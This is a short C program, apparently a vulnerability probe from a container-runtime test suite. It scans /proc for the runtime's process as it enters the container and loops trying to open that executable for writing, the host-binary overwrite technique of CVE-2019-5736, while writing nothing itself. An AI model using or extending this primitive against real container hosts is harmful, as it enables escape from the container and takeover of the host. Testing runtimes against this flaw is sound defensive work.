/* overrun MILLISECONDS: waits for a program of the node to show up among the container's processes (its runtime, as it enters)
 * and tries to open that program's file for writing, by the descriptor that CVE-2019-5736 is about. Writes nothing. */
#include "say.h"
#include <dirent.h>
#include <time.h>

static int mine(const char *link) { /* what this container itself runs */
  char target[256];
  ssize_t n = readlink(link, target, sizeof target - 1);
  if (n < 0) return 1;
  target[n] = 0;
  return strstr(target, "busybox") || strstr(target, "/attack/");
}

static int overwrite(const char *link) {
  char self[64];
  int seen = open(link, O_RDONLY | O_CLOEXEC);
  if (seen < 0) return 0;
  snprintf(self, sizeof self, "/proc/self/fd/%d", seen);
  for (int i = 0; i < 20000; i++) { /* ETXTBSY as long as it runs */
    int fd = open(self, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) return 1;
    if (errno != ETXTBSY) break;
  }
  printf("seen, %s\n", strerrorname_np(errno));
  fflush(stdout);
  close(seen);
  return 0;
}

int main(int c, char **v) {
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  long limit = c > 1 ? atol(v[1]) : 1000;
  do {
    DIR *all = opendir("/proc");
    for (struct dirent *e; (e = readdir(all));) {
      char link[64];
      if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
      snprintf(link, sizeof link, "/proc/%.20s/exe", e->d_name);
      if (!mine(link) && overwrite(link)) return say(0);
    }
    closedir(all);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < limit);
  errno = ETIMEDOUT;
  return say(-1);
}
